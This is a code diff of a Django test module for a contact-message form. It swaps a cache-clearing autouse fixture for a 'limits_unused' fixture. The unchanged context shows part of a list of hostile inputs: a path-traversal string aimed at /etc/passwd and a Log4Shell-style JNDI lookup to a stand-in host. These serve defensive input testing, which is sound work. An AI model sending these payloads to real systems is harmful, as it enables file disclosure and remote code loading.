@@ -6,7 +6,6 @@ import re
 import uuid
 
 import pytest
-from django.core.cache import cache
 from django.db import connection
 from django.test import Client
 from django.utils.html import escape
@@ -16,7 +15,7 @@ from communications.models import ContactMessage, Email
 from communications.notices import NOTICES
 from tests.communications.cast import make_participant, put, submit
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("limits_unused")]
 
 GOOD = {
     "name": "Zoë Adeyemi",
@@ -39,11 +38,6 @@ HOSTILE = [
     "..\\..\\..\\etc\\passwd",
     "${jndi:ldap://evil.example/a}",
 ]
-
-
-@pytest.fixture(autouse=True)
-def no_limit_used():
-    cache.clear()
 
 
 def post(client: Client, **changed: str):
